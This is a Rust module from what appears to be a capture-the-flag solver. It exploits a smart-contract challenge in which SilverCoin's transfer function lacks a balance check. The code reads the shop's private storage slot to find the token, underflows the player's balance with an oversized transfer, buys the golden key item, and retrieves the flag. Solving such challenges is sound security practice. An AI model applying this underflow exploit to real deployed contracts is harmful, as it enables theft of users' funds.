// SPDX-License-Identifier: MIT
//! Token To Wonderland: SilverCoin's `transfer` subtracts without a balance
//! check, so sending more than we hold wraps our balance to near 2^256.

use alloy_primitives::{Address, U256};
use anyhow::{Context, Result};
use clap::Args;
use tracing::{info, warn};

use chain_types::constants::{CALL_GAS_LIMIT, GOLDEN_KEY_INDEX, SHOP_TOKEN_SLOT};
use chain_types::conversions::word_to_address;
use host_utils::abi::{calldata, view, ISetup, IShop, ISilverCoin};
use host_utils::rpc::BlockRef;

use crate::commands::{print_json, Session};
use crate::config::ConnectionArgs;

#[derive(Args, Debug)]
pub struct WonderlandArgs {
    #[command(flatten)]
    pub connection: ConnectionArgs,

    /// Shop item to buy.
    #[arg(long, default_value_t = GOLDEN_KEY_INDEX)]
    pub item: u64,
}

pub async fn run(args: WonderlandArgs, json_output: bool) -> Result<()> {
    let session = Session::connect(&args.connection, json_output).await?;
    let client = session.client();
    let shop = session.config.target;
    let player = session.player();
    let index = U256::from(args.item);

    // The shop keeps the token address in a private slot.
    let slot = client
        .get_storage_at(shop, U256::from(SHOP_TOKEN_SLOT), BlockRef::Latest)
        .await
        .context("failed to read shop storage")?;
    let token = word_to_address(slot);
    info!(%shop, %token, "SilverCoin");

    let balance_of = ISilverCoin::balanceOfCall { account: player };
    let initial_balance = view(client, None, token, &balance_of).await?;
    let view_item = IShop::viewItemCall { index };
    let item = view(client, None, shop, &view_item).await?;
    info!(
        balance = %initial_balance,
        item = %item.name,
        price = %item.price,
        owner = %item.owner,
        "Shop state"
    );

    session
        .transact(
            "Transfer (underflow)",
            token,
            calldata(&ISilverCoin::transferCall {
                to: shop,
                amount: item.price,
            }),
            CALL_GAS_LIMIT,
        )
        .await?;
    let balance = view(client, None, token, &balance_of).await?;
    info!(%balance, "Balance after underflow");

    session
        .transact(
            "Approve shop",
            token,
            calldata(&ISilverCoin::approveCall {
                spender: shop,
                amount: item.price,
            }),
            CALL_GAS_LIMIT,
        )
        .await?;
    session
        .transact(
            &format!("Buy {}", item.name),
            shop,
            calldata(&IShop::buyItemCall { index }),
            CALL_GAS_LIMIT,
        )
        .await?;

    let solved = match session.config.setup {
        Some(setup) => Some(is_solved(&session, setup, player).await?),
        None => {
            warn!("No setup address; skipping isSolved check");
            None
        }
    };
    let flag = session.try_flag().await;

    if json_output {
        return print_json(&serde_json::json!({
            "challenge": "wonderland",
            "shop": shop.to_string(),
            "token": token.to_string(),
            "item": item.name,
            "price": item.price.to_string(),
            "initial_balance": initial_balance.to_string(),
            "balance_after_underflow": balance.to_string(),
            "solved": solved,
            "flag": flag,
        }));
    }

    println!("Initial balance:         {initial_balance} SLV");
    println!("{} price:        {} SLV", item.name, item.price);
    println!("Balance after underflow: {balance} SLV");
    if let Some(solved) = solved {
        println!("\nChallenge solved: {solved}");
    }
    if let Some(flag) = flag {
        println!("Flag: {flag}");
    }
    Ok(())
}

async fn is_solved(session: &Session, setup: Address, player: Address) -> Result<bool> {
    view(session.client(), None, setup, &ISetup::isSolvedCall { player })
        .await
        .context("isSolved check failed")
}
